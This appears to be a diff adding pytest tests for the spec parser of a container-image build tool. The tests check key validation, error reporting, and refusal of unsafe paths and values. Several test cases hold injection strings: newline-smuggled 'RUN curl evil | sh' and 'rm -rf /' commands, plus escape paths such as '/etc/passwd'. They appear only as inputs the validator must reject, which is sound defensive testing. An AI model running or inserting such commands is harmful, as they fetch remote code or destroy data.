@@ -1,0 +1,135 @@
+"""Spec parsing and validation: every problem at once, with key paths; nothing unsafe gets through."""
+
+import os
+from pathlib import Path
+
+import pytest
+
+from imagesmith.errors import SpecError
+from imagesmith.spec import load_spec, parse_spec
+
+EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
+
+VALID = {
+    "name": "demo",
+    "python": "3.11",
+    "base": "python:3.11-slim",
+    "requirements": ["six==1.17.0"],
+    "source": ["app.py"],
+    "train": {"command": "python app.py train"},
+    "serve": {"command": ["python", "app.py"], "port": 8000},
+}
+
+
+@pytest.fixture
+def root(tmp_path):
+    (tmp_path / "app.py").write_text("print('hi')\n")
+    (tmp_path / "requirements.txt").write_text("six\n")
+    return tmp_path
+
+
+def problems(data, root):
+    with pytest.raises(SpecError) as info:
+        parse_spec(data, root)
+    return info.value.problems
+
+
+def test_iris_example_parses():
+    spec = load_spec(EXAMPLES / "iris")
+    assert spec.name == "iris"
+    assert spec.python == "3.11"
+    assert spec.platform == "linux/amd64"
+    assert spec.requirements.file == "requirements.txt"
+    assert spec.serve.port == 8000
+    assert spec.train.command == ("python", "train.py")
+    assert spec.seed == 42
+    assert spec.preprocessing == ("preprocessing",)
+
+
+def test_valid_spec_defaults(root):
+    spec = parse_spec(VALID, root)
+    assert spec.resolver == "uv"
+    assert spec.train.command == ("python", "app.py", "train")
+    assert spec.artifacts == "/artifacts"
+    assert spec.seed == 0
+
+
+def test_unknown_key_suggests_closest(root):
+    found = problems({**VALID, "sytem_packages": ["curl"]}, root)
+    assert found == ["sytem_packages: unknown key (did you mean 'system_packages'?)"]
+
+
+def test_every_problem_reported_at_once(root):
+    data = {**VALID, "python": 3.11, "seed": "x", "serve": {"command": "run", "port": 70000}, "name": "Bad Name"}
+    found = problems(data, root)
+    assert any(p.startswith("python:") and "quotes" in p for p in found)
+    assert any(p.startswith("seed:") for p in found)
+    assert any(p.startswith("serve.port:") for p in found)
+    assert any(p.startswith("name:") for p in found)
+    assert len(found) == 4
+
+
+def test_missing_required_keys(root):
+    found = problems({"name": "x"}, root)
+    for key in ("python", "base", "requirements", "train", "serve"):
+        assert f"{key}: missing (required)" in found
+
+
+@pytest.mark.parametrize("path", ["../outside.py", "/etc/passwd", "a/../../b", "src/*.py", 'x"y', "$HOME/x"])
+def test_paths_cannot_escape_or_inject(root, path):
+    found = problems({**VALID, "source": [path]}, root)
+    assert len(found) == 1 and found[0].startswith("source[0]:")
+
+
+def test_symlink_out_of_project_is_refused(root, tmp_path_factory):
+    outside = tmp_path_factory.mktemp("outside")
+    (outside / "secret.txt").write_text("x")
+    os.symlink(outside, root / "link")
+    found = problems({**VALID, "source": ["link"]}, root)
+    assert "resolves outside the project" in found[0]
+
+
+def test_missing_file_is_named(root):
+    found = problems({**VALID, "requirements": "nope.txt"}, root)
+    assert found == [f"requirements: 'nope.txt' does not exist in {root}"]
+
+
+@pytest.mark.parametrize("key,value", [
+    ("base", "python:3.11\nRUN curl evil | sh"),
+    ("base", "python 3.11"),
+    ("env", {"A": "x\nRUN rm -rf /"}),
+    ("env", {"BAD-NAME": "x"}),
+    ("system_packages", ["curl && rm -rf /"]),
+    ("train", {"command": ["python", "a\nRUN x"]}),
+    ("artifacts", "relative/path"),
+])
+def test_values_that_could_inject_instructions_are_refused(root, key, value):
+    assert problems({**VALID, key: value}, root)
+
+
+def test_invalid_inline_requirement(root):
+    found = problems({**VALID, "requirements": ["numpy>>1"]}, root)
+    assert found[0].startswith("requirements[0]: 'numpy>>1' is not a valid requirement")
+
+
+def test_malformed_yaml_names_line(tmp_path):
+    (tmp_path / "imagesmith.yaml").write_text("name: x\npython: [3.11\n")
+    with pytest.raises(SpecError) as info:
+        load_spec(tmp_path)
+    assert "not valid YAML (line" in str(info.value)
+
+
+def test_no_spec_in_directory(tmp_path):
+    with pytest.raises(SpecError) as info:
+        load_spec(tmp_path)
+    assert "no imagesmith.yaml here" in str(info.value)
+
+
+def test_pyproject_table(root):
+    (root / "pyproject.toml").write_text(
+        '[project]\nname = "demo"\nversion = "1"\n\n[tool.imagesmith]\nname = "demo"\npython = "3.11"\n'
+        'base = "python:3.11-slim"\nrequirements = ["six"]\nsource = ["app.py"]\n'
+        '[tool.imagesmith.train]\ncommand = "python app.py"\n[tool.imagesmith.serve]\ncommand = "python app.py"\nport = 80\n')
+    spec = load_spec(root)
+    assert spec.origin == "pyproject.toml [tool.imagesmith]"
+    assert spec.serve.port == 80
